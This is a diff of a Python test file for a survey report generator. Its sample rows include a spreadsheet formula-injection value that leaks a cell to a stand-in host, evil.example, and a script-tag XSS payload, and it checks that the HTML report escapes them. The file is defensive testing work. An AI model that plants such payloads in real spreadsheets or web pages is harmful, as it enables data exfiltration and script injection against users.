@@ -26,7 +26,7 @@ SURVEY = HEADER + (
     'R2,2026-03-03,Chat,Support,9,"Skvělá podpora, děkuji za rychlé vyřízení"\n'
     'R3,2026-03-04,IVR,Support,2,"Sesli menü berbat, bir saat bekledim"\n'
     'R4,2026-03-05,Phone,Support,0,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n'
-    "R5,2026-03-06,Chat,Support,7,<script>alert('x')</script> agent was ok\n"
+    "R5,2026-03-06,Chat,Support,7,<script>alert('x')</script> agent was good\n"
     "R6,2026-03-09,Invoice,Usage & billing,3,Faktura přišla špatně a řešení trvalo týden\n"
     "R7,2026-03-10,Invoice,Usage & billing,4,+90 555 numarası faturada yanlış yazıyor\n"
 )
@@ -209,7 +209,7 @@ def test_html_is_one_offline_file_with_escaped_comments_and_a_print_style(seeded
     assert "Plotly.newPlot" in page and len(page) > 1_000_000  # plotly.js inline
     assert "@media print" in page
     # The comment's <script> is text, never a tag: only plotly's own scripts are scripts.
-    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; agent was ok" in page
+    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; agent was good" in page
     assert "<script>alert" not in page
     text = "".join(parser.text)
     assert "Podpora" in text and "Nejnegativnější komentáře" in text
